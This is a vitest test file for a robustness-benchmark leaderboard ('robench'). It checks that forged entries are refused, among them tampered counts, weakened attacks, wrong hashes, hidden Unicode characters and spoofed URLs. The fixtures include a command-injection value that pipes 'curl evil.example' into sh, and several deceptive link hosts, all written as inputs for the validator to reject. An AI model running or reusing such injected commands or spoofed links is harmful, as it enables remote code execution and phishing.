/** Entries that were made up or changed are refused, each kind for its own reason. */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { describe, expect, onTestFinished, test } from 'vitest'
import { auditEntries } from '../../leaderboard/audit.ts'
import { buildSite, readEntryFiles } from '../../leaderboard/build.ts'
import { checkEntry, entryLocation } from '../../leaderboard/entry.ts'
import { checkFileOf, hashEntry } from '../../leaderboard/entry-check.ts'
import { entryFromResult } from '../../leaderboard/from-result.ts'
import { packOutcomes, unpackOutcomes } from '../../leaderboard/packed-outcomes.ts'
import { disguises, linkObjection } from '../../leaderboard/text-rules.ts'
import type { LeaderboardEntry } from '../../leaderboard/entry-type.ts'
import { privateRules } from '../../leaderboard/known-datasets.ts'
import type { BoardRules } from '../../leaderboard/known-datasets.ts'
import { checkSuite } from '../../core/bench/suite/load.ts'
import type { ResultEntry } from '../../core/bench/result/result.ts'
import { makeEntry } from '../reports/fixture.ts'
import { boardEntry, boardResult, passed } from './fixture.ts'

const honest = boardEntry('honest', [9000, 5000, 3000])

/** The honest entry on a data set of its owner. */
function onOwnData(sha256: string, id = 'my-cells'): LeaderboardEntry {
  const content = { ...honest.run.suite.content, dataset: { path: 'my-cells.json' } }
  const suite = { ...honest.run.suite, content, sha256: checkSuite(content, 'suite', '.').sha256 }
  return {
    ...honest,
    dataset: { ...honest.dataset, id, sha256 },
    run: { ...honest.run, suite },
  }
}

describe('a private board', () => {
  const sha256 = '1'.repeat(64)
  const known = { examples: 10_000, classes: 10, sha256 }
  const rules: BoardRules = {
    isPrivate: true,
    datasetOf: (id) => (id === 'my-cells' ? known : undefined),
  }

  test('takes described data, which the public board does not', async () => {
    const entry = onOwnData(sha256)
    expect(await refusal(entry, await privateRules())).toBeUndefined()
    expect(await refusal(entry, rules)).toBeUndefined()
    expect(await refusal(entry)).toBe(
      'e.json#/dataset/id: "my-cells" is not a published data set, so it is not ranked\n' +
        'e.json#/run/suite/content: the data set is your own; add the entry to a private board, with ' +
        '--private',
    )
  })

  test('refuses other data under the id of a description, and data without one', async () => {
    expect(await refusal(onOwnData('2'.repeat(64)), rules)).toBe(
      `e.json#/dataset/sha256: "my-cells" has ${sha256}, got ${'2'.repeat(64)}`,
    )
    expect(await refusal(onOwnData(sha256, 'npy'), await privateRules())).toBe(
      'e.json#/dataset/id: "npy" is neither published nor described; write a description of it',
    )
  })

  test('holds published data to its hash', async () => {
    const forged = { ...honest, dataset: { ...honest.dataset, sha256 } }
    expect(await refusal(forged, await privateRules())).toMatch(
      /^e\.json#\/dataset\/sha256: "cifar10" has /,
    )
  })
})

/** The reason why the board refuses an entry; undefined if it takes it. */
async function refusal(entry: unknown, rules?: BoardRules): Promise<string | undefined> {
  try {
    await auditEntries([{ entry: checkEntry(entry, 'e.json', rules), label: 'e.json' }], rules)
    return undefined
  } catch (error) {
    return error instanceof Error ? error.message : String(error)
  }
}

type Change = (entry: LeaderboardEntry) => object

/** Changes the attack at a place; the second is AutoAttack. */
function attackChange(at: number, change: object): Change {
  return ({ attacks }) => ({
    attacks: attacks.map((attack, i) => (i === at ? { ...attack, ...change } : attack)),
  })
}

function checkChange(id: string, change: object): Change {
  return ({ checks }) => ({
    checks: checks.map((check) => (check.id === id ? { ...check, ...change } : check)),
  })
}

function suiteChange(change: object): Change {
  return ({ run }) => ({
    run: {
      ...run,
      suite: { ...run.suite, content: { ...run.suite.content, ...change } },
    },
  })
}

/** The entry with one more robust example under AutoAttack, and with all counts set right. */
const flipped: Change = ({ attacks, worstCase }) => {
  const [first, second] = attacks
  return {
    attacks: [first, { ...second!, robust: second!.robust + 1, broken: second!.broken - 1 }],
    worstCase: { robust: worstCase.robust + 1 },
  }
}

test('an honest entry is taken', async () => {
  expect(await refusal(honest)).toBeUndefined()
})

test('an entry of an earlier run, which lacks a check that only warns, is taken', async () => {
  const checks = honest.checks.filter(({ id }) => id !== 'settings-plausible')
  expect(checks).toHaveLength(honest.checks.length - 1)
  expect(await refusal({ ...honest, checks })).toBeUndefined()
})

describe('a forged entry is refused:', () => {
  test.for<[string, Change, string | RegExp]>([
    ['counts that its outcomes do not give', flipped, '/attacks/1/robust: must be 3000'],
    [
      'outcomes of other examples',
      attackChange(1, { outcomes: packOutcomes('wr'.repeat(5000)) }),
      'other examples are misclassified without attack than in attack 0',
    ],
    ['a missing outcome', attackChange(0, { outcomes: 'AAAA' }), 'must have 2500 bytes'],
    ['no checks', ({ checks }) => ({ checks: checks.slice(0, 1) }), 'is missing'],
    [
      'skipped checks',
      checkChange('gradient-available', { verdict: 'not-made' }),
      '"gradient-available" was not made',
    ],
    [
      'a failed check',
      checkChange('losses-agree', { verdict: 'fail', evidence: 'they do not' }),
      '"losses-agree" failed: they do not',
    ],
    [
      'a check that does not exist',
      checkChange('logit-scale', { id: 'all-is-well' }),
      'no check of',
    ],
    [
      'a reference attack of the suite left out',
      ({ attacks }) => ({ attacks: attacks.slice(0, 1) }),
      'the suite has the attack "autoattack" with seed 0, the entry does not',
    ],
    [
      'a weakened reference attack',
      attackChange(1, { options: { version: 'custom', steps: 1, attacks: ['square'] } }),
      /must contain autoattack|takes \d+ to \d+ passes/,
    ],
    [
      'an example count that is not that of the data',
      ({ dataset }) => ({ dataset: { ...dataset, examples: 9999 } }),
      /bytes for 9999|has 10000 examples, got 9999|zeros after/,
    ],
    [
      'a hash that is not that of the data',
      ({ dataset }) => ({ dataset: { ...dataset, sha256: 'a'.repeat(64) } }),
      '/dataset/sha256: "cifar10" has 054c114f',
    ],
    [
      'private data under another name',
      ({ dataset }) => ({ dataset: { ...dataset, id: 'my-data' } }),
      '"my-data" is not a published data set',
    ],
    [
      'too few passes for its robust examples',
      attackChange(1, { forwardPasses: 3000, backwardPasses: 3000 }),
      /forwardPasses: "autoattack" takes 22990800 to 70380000 passes for 9000 examples of which 3000/,
    ],
    [
      'more passes than there are',
      attackChange(0, { forwardPasses: 1e9 }),
      '"fgsm" takes 9800 to 18000 passes',
    ],
    [
      'an option that the plugin does not have',
      attackChange(0, { options: { ...honest.attacks[0]!.options, power: 11 } }),
      'power: unknown option',
    ],
    [
      'incomplete options',
      attackChange(0, { options: {} }),
      '/attacks/0: options must be complete',
    ],
    [
      'an attack that does not exist',
      attackChange(0, { plugin: 'fgms' }),
      /the suite has no attack "fgms"|unknown attack plugin "fgms"/,
    ],
    [
      'a defense that does not exist',
      ({ defense }) => ({ defense: { ...defense, plugin: 'magic' } }),
      '/defense: the suite evaluates no "honest" of the plugin magic',
    ],
    ['a plugin from the future', attackChange(1, { version: 99 }), '99 is newer than "autoattack"'],
    [
      'a robench from the future',
      ({ run }) => ({ run: { ...run, robenchVersion: '7.0.0' } }),
      '7.0.0 is newer than this robench',
    ],
    [
      'a run in the future',
      ({ run }) => ({ run: { ...run, finishedAt: '2400-01-01T00:00:00.000Z' } }),
      'must be a time in the past',
    ],
    [
      'a suite other than the one its hash names',
      suiteChange({ title: 'Other' }),
      /\/run\/suite\/sha256: the content has [0-9a-f]{64}/,
    ],
    ['a suite with a limit', suiteChange({ limit: 100 }), 'uses only the first 100 examples'],
    ['a suite without checks', suiteChange({ checks: false }), 'skips the probes (checks: false)'],
    [
      'a suite with another ball',
      suiteChange({ threatModels: [{ norm: 'Linf', epsilon: 0.001 }] }),
      'has no such threat model',
    ],
    ['a zero-width character', () => ({ title: 'Good\u200B' }), 'hidden character U+200B'],
    ['reversed text', () => ({ authors: ['\u202Eeve'] }), '/authors/0: contains the hidden'],
    [
      'a hidden character in a key',
      () => ({ training: { 'a\u2066b': 1 } }),
      '/training: in a key, contains the hidden character U+2066',
    ],
    ['a sample', suiteChange({ sample: { count: 100, seed: 0 } }), 'uses a sample of the examples'],
    [
      'pixels in another range, in which ε is smaller',
      ({ threatModel }) => ({ threatModel: { ...threatModel, bounds: [0, 255] } }),
      '/threatModel/bounds: the pixels of the suite are in [0, 1]',
    ],
    [
      'a target, which is harder to reach than any wrong class',
      ({ threatModel }) => ({ threatModel: { ...threatModel, target: 'random' } }),
      '/run/suite/content: has no such threat model',
    ],
    [
      'limits for each image that the suite does not have',
      ({ threatModel }) => ({ threatModel: { ...threatModel, given: 'epsilons' } }),
      '/run/suite/content: has no such threat model',
    ],
    [
      'options that its suite does not state',
      suiteChange({
        attacks: [
          { plugin: 'fgsm', name: 'fgsm' },
          { plugin: 'autoattack', name: 'autoattack', options: { version: 'plus' } },
        ],
      }),
      /the suite has no "autoattack" with these options|the content has [0-9a-f]{64}/,
    ],
    [
      'a seed that its suite does not have',
      attackChange(1, { seed: 9 }),
      '/attacks/1/seed: the suite',
    ],
    [
      'a name that its suite does not have',
      attackChange(1, { name: 'autoattack (official)' }),
      '/attacks/1/name: the suite has no "autoattack" of the name "autoattack (official)"',
    ],
    [
      'another defense than that of its suite',
      ({ defense }) => ({ defense: { ...defense, name: 'other' } }),
      '/defense: the suite evaluates no "other"',
    ],
    [
      'another title than that of its suite',
      ({ run }) => ({ run: { ...run, suite: { ...run.suite, title: 'Official' } } }),
      '/run/suite/title: the content has "Board", got "Official"',
    ],
    [
      'a data set with the title of another one',
      ({ dataset }) => ({ dataset: { ...dataset, title: 'ImageNet' } }),
      '/dataset/title: "cifar10" is CIFAR-10, got ImageNet',
    ],
    ['a blank title', () => ({ title: '\u00A0 ' }), '/title: must be a text that is not blank'],
    ['a title without end', () => ({ title: 'x'.repeat(201) }), 'must have at most 200 characters'],
    ['marks above marks', () => ({ title: `a${'\u0301'.repeat(3)}` }), 'has three marks'],
    [
      'a letter of another alphabet',
      () => ({ title: '\u0410utoAttack' }),
      'letters of two alphabets',
    ],
    ['a crowd of authors', () => ({ authors: Array(201).fill('A') }), 'must be at most 200'],
    ['a year to come', () => ({ year: 2150 }), '/year: must be at most '],
    [
      'a command with another one',
      ({ run }) => ({ run: { ...run, command: 'robench run x; curl evil.example | sh' } }),
      '/run/command: must be a call of robench',
    ],
    [
      'another program as command',
      ({ run }) => ({ run: { ...run, command: 'curl evil.example' } }),
      '/run/command: must be a call of robench',
    ],
    [
      'facts about a machine that robench does not record',
      ({ run }) => ({ run: { ...run, environment: { ...run.environment, verified: 'yes' } } }),
      '/run/environment: unknown key "verified"',
    ],
    [
      'a package twice',
      ({ run }) => ({ run: { ...run, packages: [...run.packages, ...run.packages] } }),
      '/run/packages: a package is repeated',
    ],
    [
      'a run before robench',
      ({ run }) => ({ run: { ...run, finishedAt: '1970-01-01T00:00:00.000Z' } }),
      '/run/finishedAt: must be 2025 or later',
    ],
    [
      'more parameters than the file can hold',
      ({ model }) => ({ model: { ...model, parameters: 1e12 } }),
      'parameters do not fit into',
    ],
    [
      'a training card without end',
      () => ({ training: { notes: 'x'.repeat(1_000_001) } }),
      '/training: must have at most 1000000 characters',
    ],
    [
      'a third-party attack without its package',
      attackChange(0, { plugin: 'acme/x', package: 'acme' }),
      /the suite has no attack "acme\/x"|is not in run.packages/,
    ],
  ])('%s', async ([, change, reason]) => {
    const forged = { ...honest, ...change(honest) }
    const found = await refusal(forged)
    if (typeof reason === 'string') expect(found).toContain(reason)
    else expect(found).toMatch(reason)
  })

  test('an unreliable model whose check is stated as passed', async () => {
    // At chance, although the check says otherwise.
    const chance = boardEntry('chance', [1000, 900, 800], { checks: passed })
    expect(await refusal(chance)).toMatch(/"clean-accuracy" is "(warn|fail)" from the outcomes/)
  })
})

test.for([
  ['https://arxiv.org@evil.example/abs', 'must have no name or password before the host'],
  ['https://аrxiv.org/abs', 'must state the host as browsers read it: xn--'],
  ['https://xn--rxiv-53d.org', 'must have a host in plain letters'],
  [String.raw`https://evil.example\arxiv.org`, 'must state the host as browsers read it'],
  ['https://192.168.0.1/paper', 'must have the name of a public host'],
  ['https://0x7f.1/paper', 'must state the host as browsers read it: 127.0.0.1'],
  ['http://localhost/paper', 'must have the name of a public host'],
  ['https://arxiv.org:8443/abs', 'must have no port'],
  ['https://arxiv%2eorg/abs', 'must state the host as browsers read it: arxiv.org'],
  ['ftp://arxiv.org/abs', 'must be an http or https URL'],
] as const)('the host of %s is not what it seems', ([link, reason]) => {
  expect(linkObjection(link)).toContain(reason)
})

test('ordinary links and texts pass', () => {
  for (const link of [
    'https://arxiv.org/abs/1706.06083',
    'http://www.cs.toronto.edu/~kriz/a?b=c#d',
  ]) {
    expect(linkObjection(link)).toBeUndefined()
  }
  expect(disguises({ a: ['TRADES, β = 6 – 張, Müller 🙂'] })).toEqual([])
})

describe('a forged result is refused by entryFromResult:', () => {
  const entry = makeEntry('a', { clean: 9000, robust: { fgsm: 5000, 'pgd-20': 3000 } })
  const make = (change: Partial<ResultEntry>): (() => LeaderboardEntry) => {
    const result = boardResult([entry])
    const forged = { ...result.entries[0]!, ...change }
    return () => entryFromResult({ ...result, entries: [forged] }, forged)
  }

  test('rankable by assertion', () => {
    const failed = { ...passed[3]!, verdict: 'fail' as const, evidence: 'x' }
    expect(make({ rankable: true, reasons: [], checks: [failed] })).toThrow('cannot be ranked')
  })

  test('without any check', () => {
    expect(make({ checks: [] })).toThrow(/checks/)
  })

  test('with a limit that it hides', () => {
    const { dataset } = boardResult([entry]).entries[0]!
    expect(make({ dataset: { ...dataset, examples: 9000, total: 9000 } })).toThrow('9000')
  })
})

test('outcomes survive packing', () => {
  for (const outcomes of ['w', 'rbwc', 'bbbbr', 'wrbcwrbcw']) {
    expect(unpackOutcomes(packOutcomes(outcomes), outcomes.length)).toEqual({ outcomes })
  }
  expect(unpackOutcomes(packOutcomes('rrrr'), 3)).toEqual({
    problem: 'must have zeros after the last example',
  })
})

describe('the directory of entries', () => {
  function write(entry: LeaderboardEntry, record?: object): string {
    const folder = mkdtempSync(join(tmpdir(), 'robench-entries-'))
    onTestFinished(() => rmSync(folder, { recursive: true }))
    const file = join(folder, `${entryLocation(entry)}.json`)
    mkdirSync(dirname(file), { recursive: true })
    writeFileSync(file, JSON.stringify(entry))
    if (record) writeFileSync(checkFileOf(file), JSON.stringify(record))
    return folder
  }
  const record = {
    schemaVersion: 1,
    entry: hashEntry(honest),
    checkedAt: '2026-02-01T00:00:00.000Z',
    robenchVersion: '0.1.0',
    sample: 32,
    seed: 1,
    outcomes: 96,
  }

  test('build applies the same rules to every file', async () => {
    const forged = { ...honest, ...attackChange(1, { forwardPasses: 1 })(honest) }
    const outFolder = mkdtempSync(join(tmpdir(), 'robench-out-'))
    onTestFinished(() => rmSync(outFolder, { recursive: true }))
    await expect(buildSite({ entriesFolder: write(forged), outFolder })).rejects.toThrow(
      'honest.json#/attacks/1/forwardPasses: "autoattack" takes',
    )
  })

  test('an entry is self-reported until its sample was run again, and this shows', async () => {
    expect(readEntryFiles(write(honest))[0]!.check).toBeUndefined()
    expect(readEntryFiles(write(honest, record))[0]!.check).toEqual(record)
  })

  test('a record of another version of the entry is refused', () => {
    const folder = write(honest, { ...record, entry: 'a'.repeat(64) })
    expect(() => readEntryFiles(folder)).toThrow('is about another version of the entry')
  })

  test.for<[string, object, string]>([
    ['before the run', { checkedAt: '2026-01-01T00:00:00.000Z' }, '#/checkedAt: must be between'],
    ['in the future', { checkedAt: '2400-01-01T00:00:00.000Z' }, '#/checkedAt: must be between'],
    ['by a robench to come', { robenchVersion: '7.0.0' }, '#/robenchVersion: 7.0.0 is newer'],
    ['of one outcome', { outcomes: 1 }, '#/outcomes: must be from 24 to 96, got 1'],
    ['of more than the sample', { outcomes: 97 }, '#/outcomes: must be from 24 to 96, got 97'],
    ['with more robust outcomes', { held: 97 }, '#/held: must be at most 96, got 97'],
  ])('a record of a check %s is refused', ([, change, reason]) => {
    const folder = write(honest, { ...record, ...change })
    expect(() => readEntryFiles(folder)).toThrow(reason)
  })
})
